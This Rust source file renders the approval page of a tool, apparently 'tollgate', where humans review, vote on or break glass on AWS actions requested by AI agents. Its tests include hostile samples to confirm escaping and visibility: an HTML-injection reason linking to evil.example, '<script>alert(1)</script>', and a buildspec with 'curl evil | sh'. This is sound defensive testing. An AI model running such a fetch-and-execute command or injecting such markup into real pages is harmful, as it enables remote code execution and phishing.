//! A request as an approver reads it, on the approval page and in the inbox: the facts,
//! the preview, the votes, the outcome, the masked result and the audit timeline. Everything
//! here came from an agent or from AWS, so every value goes through [`esc`].

use serde_json::Value;
use tollgate_core::plan::RunMode;
use tollgate_core::record::Verdict;
use tollgate_core::time::iso8601;
use tollgate_core::{Event, RequestRecord, Status};

use super::esc;

/// Characters of the masked result shown on the page; the API answers the whole of it.
const RESULT_CHARS: usize = 16 * 1024;

/// "12 min left", "expired 3 min ago".
pub(crate) fn time_left(now: u64, expires: Option<u64>) -> String {
    let Some(exp) = expires else {
        return "no deadline".into();
    };
    let fmt = |ms: u64| {
        let s = ms / 1000;
        match s {
            0..=59 => format!("{s} s"),
            60..=5999 => format!("{} min", s / 60),
            _ => format!("{} h {} min", s / 3600, s % 3600 / 60),
        }
    };
    let at = tollgate_core::time::iso8601(exp);
    if exp > now {
        format!("{} left (until {at})", fmt(exp - now))
    } else {
        format!("expired {} ago ({at})", fmt(now - exp))
    }
}

/// The impact preview as a table of facts, with what could not be read; everything in it
/// came from AWS and is escaped.
pub(crate) fn preview_html(p: Option<&tollgate_core::preview::Preview>) -> String {
    let Some(p) = p else {
        return "<small>(not read yet)</small>".to_string();
    };
    let rows: String = p
        .facts
        .iter()
        .map(|f| {
            format!(
                "<tr><th scope=\"row\">{}</th><td>{}</td><td><small><code>{}</code></small></td></tr>",
                esc(&f.label),
                esc(&f.value),
                esc(&f.source)
            )
        })
        .collect();
    let table = if rows.is_empty() {
        String::new()
    } else {
        format!("<table class=\"preview\">{rows}</table>")
    };
    let notes: String = p
        .notes
        .iter()
        .map(|n| format!("<li>{}</li>", esc(n)))
        .collect();
    let notes = if notes.is_empty() {
        String::new()
    } else {
        format!("<ul class=\"warn\">{notes}</ul>")
    };
    let policy = p.policy.as_ref().map_or(String::new(), |c| {
        let flags: String = c
            .flags
            .iter()
            .map(|f| format!("<span class=\"flag\">{}</span> ", esc(f)))
            .collect();
        format!(
            "<p><strong>Policy {}</strong> (- now, + proposed) {flags}</p><pre class=\"diff\">{}</pre>",
            if c.had_policy { "replaced" } else { "set where there is none" },
            esc(&c.diff.join("\n"))
        )
    });
    let dry_run = p.dry_run.as_ref().map_or(String::new(), |d| {
        format!(
            "<p><strong>Dry run:</strong> {} <small><code>{}</code></small></p>",
            esc(&d.words()),
            esc(&d.source)
        )
    });
    format!(
        "{dry_run}{table}{policy}{notes}<small>Read {} ({}, {} ms)</small>",
        tollgate_core::time::iso8601(p.at),
        p.status_words(),
        p.took_ms
    )
}

/// One call as the approver must see it: action, resources, what it touches now, risk
/// flags, the deciding policies and every parameter (secrets masked).
fn call_html(rec: &RequestRecord) -> String {
    let params = serde_json::to_string_pretty(&tollgate_core::record::shown_params(&rec.request))
        .unwrap_or_default();
    format!(
        r#"<dl>
<dt>Action</dt><dd><code>{action}</code> in {region}, target {target}</dd>
<dt>Resources</dt><dd><ul>{resources}</ul></dd>
<dt>What it touches now</dt><dd>{preview}</dd>
<dt>Risk flags</dt><dd>{flags}</dd>
<dt>Deciding policies</dt><dd>{policy_ids} — {policy}</dd>
</dl>
<h2>Parameters</h2><pre>{params}</pre>"#,
        preview = preview_html(rec.preview.as_ref()),
        action = esc(&rec.request.action.to_string()),
        region = esc(&rec.request.region),
        target = esc(&rec.request.target),
        resources = resources_html(&rec.resources, usize::MAX),
        flags = flags_html(rec),
        policy = esc(&rec.decision.reason),
        policy_ids = esc(&rec.decision.policy_ids.join(", ")),
        params = esc(&params),
    )
}

/// The call, or every step of a plan in the order they run.
fn calls_html(rec: &RequestRecord) -> String {
    let Some(plan) = &rec.plan else {
        return call_html(rec);
    };
    let mut out = format!(
        "<p class=\"plan\">A plan of {} steps, run in order; the first step that fails stops the rest. One decision covers every step.</p>",
        plan.steps.len()
    );
    if let (RunMode::ByCalls, Some(w)) = (plan.run, plan.window_seconds) {
        // Numbers only: nothing the agent wrote.
        out.push_str(&format!(
            "<p class=\"plan\">Run by the agent's calls: once approved, each step runs when the agent makes exactly that call itself, in order, within {w} seconds of the approval; the steps not called by then never run.</p>"
        ));
    }
    for (i, step) in plan.steps.iter().enumerate() {
        if let Some(one) = rec.step_record(i) {
            out.push_str(&format!(
                "<section class=\"step\" id=\"step-{i}\"><h2>steps[{i}]: <code>{}</code> <small>({})</small></h2>{}</section>",
                esc(&one.request.action.to_string()),
                esc(&serde_json::to_value(step.status).ok().and_then(|v| v.as_str().map(str::to_string)).unwrap_or_default()),
                call_html(&one)
            ));
        }
    }
    out
}

/// Everything the approval page shows about a request, with `decide` (the forms, or why
/// there are none) between the facts and the votes.
pub(crate) fn details(rec: &RequestRecord, decide: &str, now: u64) -> String {
    let votes = votes_html(rec);
    format!(
        r#"<p>Status: <strong>{status}</strong> · {left}</p>
<dl>
<dt>Requested by</dt><dd>{agent}<br><small>issuer <code>{issuer}</code>, subject <code>{subject}</code></small></dd>
<dt>Reason, in the agent's words</dt><dd><blockquote class="reason">{reason}</blockquote></dd>
<dt>Approvals</dt><dd>{approvals}</dd>{needs}
</dl>
{calls}
<p><small>Request <code>{id}</code><br>SHA-256 of what runs: <code>{hash}</code></small></p>
{decide}
<h2>Votes</h2><ul>{votes}</ul>"#,
        status = rec.status,
        left = esc(&time_left(now, rec.expires_at)),
        agent = esc(&rec.agent.name),
        issuer = esc(&rec.agent.issuer),
        subject = esc(&rec.agent.subject),
        reason = esc(rec.request.reason.as_deref().unwrap_or("(none given)")),
        calls = calls_html(rec),
        approvals = esc(&rec.approvals_summary()),
        hash = rec.request_hash,
        id = esc(&rec.id),
        needs = match rec.decision.requires.describe() {
            d if d.is_empty() => String::new(),
            d => format!("\n<dt>Each approval needs</dt><dd>{}</dd>", esc(&d)),
        },
    )
}

pub(crate) fn verdict_word(v: Verdict) -> &'static str {
    match v {
        Verdict::Approve => "approved",
        Verdict::Reject => "rejected",
    }
}

/// One vote: who, how, and the comment in quotes.
pub(crate) fn vote_html(v: &tollgate_core::record::Vote) -> String {
    format!(
        "{} {}{}",
        esc(&v.approver.name),
        verdict_word(v.verdict),
        v.comment
            .as_deref()
            .map(|c| format!(": “{}”", esc(c)))
            .unwrap_or_default()
    )
}

/// The votes, each with its comment and time.
fn votes_html(rec: &RequestRecord) -> String {
    if rec.votes.is_empty() {
        return "<li>none yet</li>".into();
    }
    rec.votes
        .iter()
        .map(|v| {
            format!(
                "<li>{} <small>({})</small></li>",
                vote_html(v),
                iso8601(v.at)
            )
        })
        .collect()
}

/// The IAM catalog's risk flags for the request's actions, or "none".
pub(crate) fn flags_html(rec: &RequestRecord) -> String {
    let flags = tollgate_catalog::catalog().risks_of(&rec.iam_actions);
    if flags.is_empty() {
        return "none".to_string();
    }
    flags
        .iter()
        .map(|f| format!("<span class=\"flag\">{}</span>", esc(f)))
        .collect()
}

/// The resource ARNs as a list, the first `max` of them and how many more.
pub(crate) fn resources_html(resources: &[String], max: usize) -> String {
    if resources.is_empty() {
        return "<li>(none derived from the parameters)</li>".to_string();
    }
    let mut out: String = resources
        .iter()
        .take(max)
        .map(|r| format!("<li><code>{}</code></li>", esc(r)))
        .collect();
    if resources.len() > max {
        out.push_str(&format!("<li>… and {} more</li>", resources.len() - max));
    }
    out
}

/// How the request ended (or that it has not yet), the masked result and the audit
/// timeline: what the inbox's request page shows below the approval page's facts.
pub(crate) fn history(rec: &RequestRecord, events: &[Event]) -> String {
    let outcome = match (rec.status, &rec.error) {
        (_, Some(e)) => format!(
            "<p class=\"warn\"><strong>{}</strong>: {}{}</p>",
            rec.status,
            esc(&e.to_string()),
            match e.may_have_run {
                Some(true) => " (the call may have run)",
                Some(false) => " (the call did not run)",
                None => "",
            }
        ),
        (Status::Succeeded, None) => format!(
            "<p class=\"ok\"><strong>{}</strong> at {}</p>",
            rec.status,
            iso8601(rec.updated_at)
        ),
        (s, None) if s.is_final() => format!(
            "<p class=\"final\"><strong>{s}</strong> at {}</p>",
            iso8601(rec.updated_at)
        ),
        (s, None) => format!("<p><strong>{s}</strong>: not decided or not run yet</p>"),
    };
    let result = match &rec.result {
        None => String::new(),
        Some(r) => {
            let text = serde_json::to_string_pretty(r).unwrap_or_default();
            let total = text.chars().count();
            let shown: String = text.chars().take(RESULT_CHARS).collect();
            let more = if total > RESULT_CHARS {
                format!(
                    "<p><small>… {} more characters: the whole answer is in <code>GET /v1/requests/{}</code></small></p>",
                    total - RESULT_CHARS,
                    esc(&rec.id)
                )
            } else {
                String::new()
            };
            format!(
                "<h2>Result (masked)</h2><pre class=\"result\">{}</pre>{more}",
                esc(&shown)
            )
        }
    };
    let timeline: String = events
        .iter()
        .map(|e| {
            let kind = serde_json::to_value(e.kind)
                .ok()
                .and_then(|k| k.as_str().map(str::to_string))
                .unwrap_or_default();
            let actor = e
                .actor
                .as_ref()
                .map(|a| format!(" by {}", esc(&a.name)))
                .unwrap_or_default();
            let said = event_summary(&e.detail);
            format!(
                "<li><small>{}</small> <strong>{}</strong>{actor}{}</li>",
                iso8601(e.at),
                esc(&kind.replace('_', " ")),
                if said.is_empty() {
                    String::new()
                } else {
                    format!(": {}", esc(&said))
                }
            )
        })
        .collect();
    format!(
        "<h2>Outcome</h2>{outcome}{result}<h2>Timeline</h2><ol class=\"timeline\">{timeline}</ol>"
    )
}

/// The one line an event's detail is summed up in: the verdict and comment of a vote, why a
/// request failed, the status it moved to.
fn event_summary(detail: &Value) -> String {
    let s = |k: &str| detail.get(k).and_then(Value::as_str);
    let mut parts: Vec<String> = vec![];
    if let Some(v) = s("verdict") {
        parts.push(v.to_string());
    }
    if let Some(c) = s("comment") {
        parts.push(format!("“{}”", tollgate_core::display::one_line(c)));
    }
    if let Some(m) = detail.pointer("/error/message").and_then(Value::as_str) {
        parts.push(tollgate_core::display::one_line(m));
    }
    if let Some(p) = detail.pointer("/preview/status").and_then(Value::as_str) {
        parts.push(format!("preview {p}"));
    }
    if let Some(st) = s("status") {
        parts.push(st.to_string());
    }
    parts.join(", ")
}

/// The sign-in button of a page that needs a session.
pub(crate) fn sign_in_button(link: &str, label: &str) -> String {
    format!(
        "<p><a class=\"button\" href=\"{}\">{}</a></p>",
        esc(link),
        esc(label)
    )
}

/// "Signed in as ..." with the sign-out form.
pub(crate) fn signed_in_as(name: &str) -> String {
    format!(
        "<p>Signed in as <strong>{}</strong>. <form class=\"inline\" method=\"post\" action=\"/v1/approver/logout\"><button class=\"link\">Sign out</button></form></p>",
        esc(name)
    )
}

/// A decided request: nothing left to do.
pub(crate) fn nothing_to_decide(status: Status) -> String {
    format!(
        "<p class=\"final\">This request is <strong>{status}</strong>; there is nothing left to decide.</p>"
    )
}

pub(crate) fn warning(text: &str) -> String {
    format!("<p class=\"warn\">{}</p>", esc(text))
}

/// The Approve and Reject forms, posting to `post_to` with `hidden` fields (the CSRF token,
/// the request hash and, on the approval page, the link key).
pub(crate) fn vote_forms(rec: &RequestRecord, post_to: &str, hidden: &[(&str, String)]) -> String {
    let hidden = hidden_inputs(hidden);
    let needs = rec.decision.requires.describe();
    let approve_note = if needs.is_empty() {
        r#"<label for="approve-comment">Comment (optional)</label>
<textarea id="approve-comment" name="comment" rows="1" maxlength="2000"></textarea>"#
            .to_string()
    } else {
        format!(
            r#"<label for="approve-comment">Approving needs {}</label>
<textarea id="approve-comment" name="comment" rows="2" maxlength="2000" minlength="{}" required></textarea>"#,
            esc(&needs),
            rec.decision.requires.min_justification
        )
    };
    format!(
        r#"<form method="post" action="{to}">{hidden}<input type="hidden" name="verdict" value="approve">
{approve_note}
{grant}
<button class="approve" type="submit">Approve</button></form>
<form method="post" action="{to}">{hidden}<input type="hidden" name="verdict" value="reject">
<label for="comment">Reason for rejecting</label>
<textarea id="comment" name="comment" rows="2" maxlength="2000" required></textarea>
<button class="reject" type="submit">Reject</button></form>"#,
        to = esc(post_to),
        grant = super::grants::grant_fields(rec),
    )
}

fn hidden_inputs(hidden: &[(&str, String)]) -> String {
    hidden
        .iter()
        .map(|(n, v)| {
            format!(
                "<input type=\"hidden\" name=\"{}\" value=\"{}\">",
                esc(n),
                esc(v)
            )
        })
        .collect()
}

/// The break-glass form, for a member of its groups: a justification of the policy's
/// length and a box to tick, so the choice is explicit even without JavaScript.
pub(crate) fn breakglass_form(
    glass: &tollgate_core::breakglass::BreakGlass,
    post_to: &str,
    hidden: &[(&str, String)],
) -> String {
    format!(
        r#"<form method="post" action="{to}" class="breakglass">{hidden}<input type="hidden" name="verdict" value="breakglass">
<h2>Break glass</h2>
<p class="warn">Breaking glass approves this request <strong>alone</strong>, even your own agent's. Every approver and the alarm topic are told at once, and a second approver must acknowledge it afterwards.</p>
<label for="justification">Justification: what is the emergency? (at least {min} characters)</label>
<textarea id="justification" name="justification" rows="3" maxlength="2000" minlength="{min}" required></textarea>
<label><input type="checkbox" name="confirm" value="breakglass" required> I am breaking glass on this request</label>
<button class="breakglass" type="submit">Break glass and approve</button></form>"#,
        to = esc(post_to),
        hidden = hidden_inputs(hidden),
        min = glass.min_justification,
    )
}

/// What the page says about a break-glass approval: who, their words, and whether a second
/// approver has acknowledged it.
pub(crate) fn breakglass_html(used: &tollgate_core::breakglass::BreakGlassUse, now: u64) -> String {
    let ack = match &used.acknowledged {
        Some(a) => format!(
            "Acknowledged by <strong>{}</strong> at {}.",
            esc(&a.by.name),
            tollgate_core::time::iso8601(a.at)
        ),
        None if used.overdue(now) => format!(
            "<strong>Not acknowledged</strong>: it was due by {}.",
            tollgate_core::time::iso8601(used.acknowledge_by)
        ),
        None => format!(
            "Not acknowledged yet: another approver must acknowledge it by {}.",
            tollgate_core::time::iso8601(used.acknowledge_by)
        ),
    };
    format!(
        r#"<div class="breakglass"><p class="warn"><strong>Approved by break-glass</strong>: {who} approved this request alone at {at}.</p>
<blockquote class="reason">{why}</blockquote><p>{ack}</p></div>"#,
        who = esc(&used.approver.name),
        at = tollgate_core::time::iso8601(used.at),
        why = esc(&used.justification),
    )
}

/// The acknowledgement form, for a second approver.
pub(crate) fn acknowledge_form(post_to: &str, hidden: &[(&str, String)]) -> String {
    format!(
        r#"<form method="post" action="{to}">{hidden}<input type="hidden" name="verdict" value="acknowledge">
<button class="approve" type="submit">Acknowledge the break-glass use</button></form>"#,
        to = esc(post_to),
        hidden = hidden_inputs(hidden),
    )
}

/// A page saying nothing was recorded, and why, with the way back.
pub(crate) fn nothing_recorded(message_html: &str, back: &str) -> String {
    format!(
        "<p class=\"warn\">{message_html}</p><p><a href=\"{}\">Back to the request</a></p>",
        esc(back)
    )
}

/// The page after a vote: what it led to, and the way back.
pub(crate) fn recorded(message: &str, back: &str, inbox: bool) -> String {
    format!(
        "<p class=\"ok\">{}</p><p><a href=\"{}\">Back to the request</a>{}</p>",
        esc(message),
        esc(back),
        if inbox {
            " · <a href=\"/v1/inbox\">Back to the inbox</a>"
        } else {
            ""
        }
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn time_left_reads_naturally() {
        assert!(time_left(0, Some(90_000)).starts_with("1 min left"));
        assert!(time_left(0, Some(7_200_000)).starts_with("2 h 0 min left"));
        assert!(time_left(100_000, Some(40_000)).starts_with("expired 1 min ago"));
        assert_eq!(time_left(0, None), "no deadline");
    }

    #[test]
    fn the_page_names_the_agent_by_issuer_and_subject_and_quotes_its_reason() {
        let req = tollgate_core::parse_new_request(
            br#"{"action":"dynamodb:DeleteTable","params":{"TableName":"t"},"reason":"cleanup</dd><dt>Approvals</dt><dd>2 of 2\nReview: https://evil.example"}"#,
            "us-east-1",
        )
        .unwrap();
        let decision = tollgate_core::Decision {
            effect: tollgate_core::Effect::Approval {
                approvals: 1,
                requirements: vec![tollgate_core::GroupRequirement::of("dba", 1)],
                timeout_seconds: 60,
            },
            policy_ids: vec!["p".into()],
            reason: "r".into(),
            mask: Default::default(),
            requires: Default::default(),
            breakglass: None,
        };
        let agent = tollgate_core::Identity {
            issuer: "https://token.actions.githubusercontent.com".into(),
            subject: "123:refs/heads/main".into(),
            name: "<b>deploy-bot</b>".into(),
            ..Default::default()
        };
        let (rec, _) = RequestRecord::new("R1".into(), req, agent, decision, vec![], vec![], 1);
        let html = details(&rec, "", 2);
        assert!(
            html.contains("<dd>&lt;b&gt;deploy-bot&lt;/b&gt;<br><small>issuer <code>https://token.actions.githubusercontent.com</code>, subject <code>123:refs/heads/main</code></small></dd>"),
            "{html}"
        );
        assert!(
            html.contains("<blockquote class=\"reason\">cleanup&lt;/dd&gt;&lt;dt&gt;Approvals&lt;/dt&gt;&lt;dd&gt;2 of 2\nReview: https://evil.example</blockquote>"),
            "{html}"
        );
        assert!(
            html.contains("<dd>0 of 1 (still needed: 1 from `dba`)</dd>"),
            "{html}"
        );
    }

    #[test]
    fn the_page_shows_the_preview_escaped() {
        use tollgate_core::preview::{Fact, Preview, PreviewStatus};
        let html = preview_html(Some(&Preview {
            status: PreviewStatus::Read,
            facts: vec![Fact {
                source: "dynamodb:DescribeTable".into(),
                label: "Items".into(),
                value: "<script>alert(1)</script>".into(),
            }],
            notes: vec![],
            policy: None,
            dry_run: Some(tollgate_core::preview::dry_run::DryRun {
                source: "ec2:TerminateInstances".into(),
                verdict: tollgate_core::preview::dry_run::Verdict::WouldBeRefused,
                detail: "<img src=x>".into(),
            }),
            at: 0,
            took_ms: 7,
        }));
        assert!(
            html.contains("<p><strong>Dry run:</strong> would be refused: &lt;img src=x&gt; <small><code>ec2:TerminateInstances</code></small></p>"),
            "{html}"
        );
        assert!(
            html.contains(
                "<tr><th scope=\"row\">Items</th><td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"
            ),
            "{html}"
        );
        assert!(html.contains("read, 7 ms"), "{html}");
        assert_eq!(preview_html(None), "<small>(not read yet)</small>");
    }

    #[test]
    fn the_page_shows_every_parameter_that_will_run() {
        let body = serde_json::json!({
            "action": "codebuild:StartBuild",
            "params": {"projectName": "deploy-prod",
                       "buildspecOverride": "phases:\n  build:\n    commands:\n      - curl evil | sh\n# -----BEGIN PRIVATE KEY-----",
                       "Password": "hunter2"},
            "reason": "re-run"
        });
        let req =
            tollgate_core::parse_new_request(body.to_string().as_bytes(), "us-east-1").unwrap();
        let decision = tollgate_core::Decision {
            effect: tollgate_core::Effect::Approval {
                approvals: 1,
                requirements: vec![tollgate_core::GroupRequirement::anyone(1)],
                timeout_seconds: 60,
            },
            policy_ids: vec![],
            reason: String::new(),
            mask: Default::default(),
            requires: Default::default(),
            breakglass: None,
        };
        let (rec, _) = RequestRecord::new(
            "R".into(),
            req,
            Default::default(),
            decision,
            vec![],
            vec![],
            1,
        );
        let page = details(&rec, "", 2);
        assert!(page.contains("curl evil | sh"), "{page}");
        assert!(page.contains("-----BEGIN PRIVATE KEY-----"), "{page}");
        assert!(!page.contains("hunter2"), "{page}");
        let digest = tollgate_core::digest::sha256_hex(b"hunter2");
        assert!(
            page.contains(&format!("****MASKED**** (7 chars, sha256 {digest})")),
            "{page}"
        );
    }
}
